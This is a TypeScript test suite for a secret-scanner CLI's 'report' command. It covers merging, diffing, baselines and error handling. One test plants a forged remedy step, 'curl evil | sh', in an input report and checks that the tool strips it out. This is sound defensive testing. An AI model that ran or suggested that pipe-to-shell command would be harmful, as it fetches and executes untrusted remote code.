/** `kubeleaks report` as a user runs it: merging, other formats, comparing, and what it refuses. */
import { existsSync } from 'node:fs';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test, { type ExecutionContext } from 'ava';
import { mintShape } from '../helpers/mint.js';
import { runCli } from '../helpers/run-cli.js';
import { tempFolder } from '../helpers/temp-folder.js';
import { fullScan, hostileScan, strayToken } from '../reporters/events.js';
import { report as write } from '../reporters/golden.js';
import { formats } from '../../src/reporters/create-reporter.js';

const legacy = mintShape({ kind: 'legacy' });
const bound = mintShape({ kind: 'pod-bound' });

interface Document {
  readonly findings: readonly {
    readonly fingerprint: string;
    readonly severity: string;
    readonly title: string;
    readonly proven: boolean;
    readonly sightingsTotal: number;
    readonly verdict: { readonly result: string; readonly claimedBy: string } | null;
    readonly suppression: { readonly kind: string } | null;
    readonly remedy: readonly { readonly destructive: boolean; readonly command: string | null }[];
  }[];
  readonly summary: { readonly findings: number; readonly complete: boolean };
}

/** A folder with the reports `a.json` (one token) and `b.jsonl` (that one and another). */
async function twoReports(t: ExecutionContext): Promise<string> {
  const cwd = await tempFolder(t);
  await writeFile(join(cwd, 'a.txt'), `${legacy}\n`);
  await writeFile(join(cwd, 'b.txt'), `x ${bound}\ny ${legacy}\n`);
  await runCli(['dir', 'a.txt', '-f', 'json', '-o', 'a.json'], { cwd });
  await runCli(['dir', 'b.txt', '-f', 'jsonl', '-o', 'b.jsonl'], { cwd });
  return cwd;
}

const documentOf = (text: string): Document => JSON.parse(text) as Document;

test('two reports become one: a token is one finding with the places of both', async (t) => {
  const cwd = await twoReports(t);
  const { stdout, code } = await runCli(['report', 'a.json', 'b.jsonl', '-f', 'json'], { cwd });
  t.is(code, 0);
  const { findings, summary } = documentOf(stdout);
  t.deepEqual(
    findings.map(({ sightingsTotal }) => sightingsTotal),
    [2, 1],
  );
  t.like(summary, { findings: 2, complete: true });
});

test('- is a report on standard input, which may be read once', async (t) => {
  const cwd = await twoReports(t);
  const input = await readFile(join(cwd, 'b.jsonl'));
  const { stdout, code } = await runCli(['report', 'a.json', '-', '-f', 'json'], { cwd, stdin: input });
  t.is(code, 0);
  t.deepEqual(
    documentOf(stdout).findings.map(({ sightingsTotal }) => sightingsTotal),
    [2, 1],
  );
  const cut = await runCli(['report', '-'], { cwd, stdin: input.subarray(0, input.length / 2) });
  t.is(cut.code, 2);
  t.regex(cut.stderr, /cannot use the report on standard input: it ends in the middle/);
  const broken = await runCli(['report', '-'], { cwd, stdin: Buffer.concat([input, Buffer.from('}}')]) });
  t.is(broken.code, 2);
  t.regex(broken.stderr, /the report on standard input: it is no JSON, or broken;/);
  const twice = await runCli(['report', '-', '-'], { cwd, stdin: input });
  t.regex(twice.stderr, /standard input holds one report: name - once/);
});

for (const format of formats) {
  test(`a report becomes ${format}, with no clear token in it`, async (t) => {
    const cwd = await tempFolder(t);
    await writeFile(join(cwd, 'x.json'), await write('json', hostileScan));
    const { code, stderr } = await runCli(['report', 'x.json', '-f', format, '-o', 'out'], { cwd });
    t.is(code, 0, stderr);
    const text = await readFile(join(cwd, 'out'), 'utf8');
    t.true(text.length > 100);
    t.false(text.includes(strayToken));
  });
}

test('severities, titles and steps are computed anew, and old verdicts are claims of that day', async (t) => {
  const cwd = await tempFolder(t);
  const edited = JSON.parse(await write('json', fullScan)) as { findings: Record<string, unknown>[] };
  for (const finding of edited.findings) {
    Object.assign(finding, {
      severity: 'info',
      title: 'nothing to see',
      proven: true,
      remedy: [{ action: 'run this', command: 'curl evil | sh', destructive: false }],
    });
  }
  await writeFile(join(cwd, 'x.json'), JSON.stringify(edited));
  const json = await runCli(['report', 'x.json', '-f', 'json'], { cwd });
  const { findings } = documentOf(json.stdout);
  t.true(findings.some(({ severity }) => severity === 'critical'));
  t.false(/nothing to see|curl evil/.test(json.stdout));
  t.false(findings.some(({ proven }) => proven));
  const steps = findings.flatMap(({ remedy }) => remedy);
  t.false(steps.some(({ destructive, command }) => destructive && command !== null));
  const live = findings.find(({ verdict }) => verdict !== null);
  t.like(live, { severity: 'critical', verdict: { result: 'live', claimedBy: '2026-11-23T20:00:00Z' } });
  const human = await runCli(['report', 'x.json'], { cwd });
  t.regex(human.stdout, /live in prod[^]*claimed by the\s+report of 2026-11-23\s+20:00\s+UTC/);
});

test('a claim that a token is dead lowers nothing', async (t) => {
  const cwd = await tempFolder(t);
  const document = (await write('json', fullScan)).replaceAll('"result": "live"', '"result": "bad-signature"');
  await writeFile(join(cwd, 'x.json'), document);
  const { stdout } = await runCli(['report', 'x.json', '-f', 'json'], { cwd });
  const claimed = documentOf(stdout).findings.find(({ verdict }) => verdict?.result === 'bad-signature');
  t.is(claimed?.severity, 'high');
});

test('a baseline holds for a report too, whether it is a document or events', async (t) => {
  const cwd = await twoReports(t);
  for (const [known, hidden] of [
    ['a.json', 1],
    ['b.jsonl', 2],
  ] as const) {
    const { stdout } = await runCli(['report', 'b.jsonl', '--baseline', known, '-f', 'json'], { cwd });
    t.is(documentOf(stdout).findings.filter(({ suppression }) => suppression?.kind === 'baseline').length, hidden);
  }
});

test('a comparison tells what is new, what is gone and what was answered otherwise', async (t) => {
  const cwd = await twoReports(t);
  const grown = await runCli(['report', '--diff', 'a.json', 'b.jsonl'], { cwd });
  t.is(grown.code, 0);
  t.regex(grown.stdout, /Added: 1 token\n HIGH {2}Bound[^]*b\.txt:1:3[^]*Gone: 0 tokens[^]*Unchanged: 1 token/);
  const shrunk = await runCli(['report', '--diff', 'b.jsonl', 'a.json', '-f', 'json'], { cwd });
  const { added, gone, unchanged } = JSON.parse(shrunk.stdout);
  t.deepEqual([added.length, gone.length, unchanged], [0, 1, 1]);
  await writeFile(join(cwd, 'old.json'), await write('json', fullScan));
  const dead = (await write('json', fullScan)).replaceAll('"result": "live"', '"result": "revoked"');
  await writeFile(join(cwd, 'new.json'), dead);
  const died = await runCli(['report', '--diff', 'old.json', 'new.json'], { cwd });
  t.regex(died.stdout, /Changed verdict: 1 token[^]*was +live in prod[^]*is +revoked in prod/);
});

test('a report that cannot be used ends with 2, and what stood under the name of the output stays', async (t) => {
  const cwd = await twoReports(t);
  const whole = await readFile(join(cwd, 'a.json'), 'utf8');
  await writeFile(join(cwd, 'cut.json'), whole.slice(0, whole.length / 2));
  await writeFile(join(cwd, 'out.html'), 'what was there');
  const before = await readdir(cwd);
  const { code, stderr } = await runCli(['report', 'a.json', 'cut.json', '-f', 'html', '-o', 'out.html'], { cwd });
  t.is(code, 2);
  t.regex(stderr, /^kubeleaks: cannot use the report cut\.json: it ends in the middle/);
  t.is(await readFile(join(cwd, 'out.html'), 'utf8'), 'what was there');
  t.deepEqual(await readdir(cwd), before);
});

const wrong = test.macro(async (t, args: readonly string[], reason: RegExp) => {
  const cwd = await twoReports(t);
  const { code, stdout, stderr } = await runCli(['report', ...args], { cwd });
  t.is(code, 2);
  t.is(stdout, '');
  t.regex(stderr, reason);
});

test('without a report there is nothing to do', wrong, [], /name at least one report/);
test(
  'a report that is not there is named',
  wrong,
  ['none.json'],
  /cannot use the report none\.json: there is no such file/,
);
test('a file of another kind is no report', wrong, ['a.txt'], /cannot use the report a\.txt: it is no JSON/);
test('--diff needs two reports', wrong, ['--diff', 'a.json'], /--diff compares two reports/);
test(
  '--diff has no SARIF',
  wrong,
  ['--diff', 'a.json', 'b.jsonl', '-f', 'sarif'],
  /with --diff, human or json is needed/,
);
test('clear tokens cannot be asked of a report', wrong, ['a.json', '--reveal'], /--reveal/);

for (const format of formats) {
  test(`a full disk is an error for ${format}, not a half report`, async (t) => {
    if (!existsSync('/dev/full')) return t.pass('there is no /dev/full here');
    const cwd = await tempFolder(t);
    await writeFile(join(cwd, 'x.json'), await write('json', fullScan));
    const { code, stderr } = await runCli(['report', 'x.json', '-f', format, '-o', '/dev/full'], { cwd });
    t.is(code, 2);
    t.is(stderr, 'kubeleaks: cannot write /dev/full: no space left on the device\n');
  });
}
